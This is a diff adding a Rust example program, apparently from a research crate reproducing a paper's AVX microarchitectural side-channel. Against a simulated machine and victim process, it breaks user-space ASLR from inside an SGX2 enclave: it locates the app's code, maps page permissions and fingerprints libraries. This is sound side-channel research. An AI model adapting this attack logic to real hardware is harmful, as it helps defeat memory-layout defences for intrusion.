@@ -1,0 +1,82 @@
+//! Fine-grained user-space ASLR break from inside an SGX2 enclave
+//! (paper §IV-F, Fig. 7).
+//!
+//! The attacker has no `/proc` access (enclave), only masked loads,
+//! stores and `RDTSC`. It locates the app's code section in the 28-bit
+//! ASLR window, maps region permissions, and fingerprints libraries via
+//! section-size signatures — including allocator pages that never show
+//! up in the maps file.
+//!
+//! ```text
+//! cargo run --release --example userspace_sgx
+//! ```
+
+use avx_channel::attacks::userspace::{LibraryMatcher, UserSpaceScanner};
+use avx_channel::{PermissionAttack, SimProber};
+use avx_mmu::{AddressSpace, PageSize, PteFlags, VirtAddr};
+use avx_os::process::{build_process, ImageSignature};
+use avx_os::ExecutionContext;
+use avx_uarch::{CpuProfile, Machine};
+
+fn main() {
+    // The victim process: Fig. 7 app + the standard library set.
+    let mut space = AddressSpace::new();
+    let truth = build_process(
+        &mut space,
+        &ImageSignature::fig7_app(),
+        &ImageSignature::standard_set(),
+        99,
+    );
+    // One attacker-owned page (the enclave's heap) for calibration.
+    let own = VirtAddr::new_truncate(0x5400_0000_0000);
+    space
+        .map(own, PageSize::Size4K, PteFlags::user_ro())
+        .expect("attacker page");
+
+    let machine = Machine::new(CpuProfile::ice_lake_i7_1065g7(), space, 99);
+    let mut p = SimProber::with_context(machine, ExecutionContext::sgx2());
+    println!("context: {}", p.context());
+    assert!(!p.context().has_proc_oracle(), "no /proc inside the enclave");
+
+    let perm = PermissionAttack::calibrate(&mut p, own);
+    let scanner = UserSpaceScanner::new(perm);
+
+    // Phase 1: find the app text in (a window of) the 0x55 ASLR range.
+    // The full 2^28-page linear sweep is the same loop (the paper
+    // reports 51 s on hardware); the window keeps this demo quick.
+    let window = VirtAddr::new_truncate(truth.app.base.as_u64() - 4096 * 4096);
+    let code = scanner
+        .find_first_mapped(&mut p, window, 8192)
+        .expect("code section found");
+    println!(
+        "app code section: {code} (truth {}, {})",
+        truth.app.base,
+        if code == truth.app.base { "exact" } else { "off" }
+    );
+
+    // Phase 2: map the library window page by page (load + store pass).
+    let first = truth.libraries.first().expect("libs loaded").base;
+    let last = truth.libraries.last().expect("libs loaded");
+    let span = last.base.as_u64() + last.signature.span() + 0x10_0000 - first.as_u64();
+    let map = scanner.scan(&mut p, first, span / 4096);
+    println!("\ndetected regions (maps-file style, incl. hidden pages):");
+    for region in map.regions.iter().filter(|r| {
+        r.perm != avx_channel::ProbedPerm::NoneOrUnmapped || r.len() < 0x40_0000
+    }) {
+        println!("  {region}");
+    }
+
+    // Phase 3: identify libraries by their section-size signatures.
+    let matcher = LibraryMatcher::new(ImageSignature::standard_set());
+    println!("\nlibrary fingerprints:");
+    for m in matcher.find_all(&map) {
+        let ok = truth.library_base(m.name) == Some(m.base);
+        println!(
+            "  {:<22} at {} [{}]",
+            m.name,
+            m.base,
+            if ok { "correct" } else { "WRONG" }
+        );
+        assert!(ok);
+    }
+}
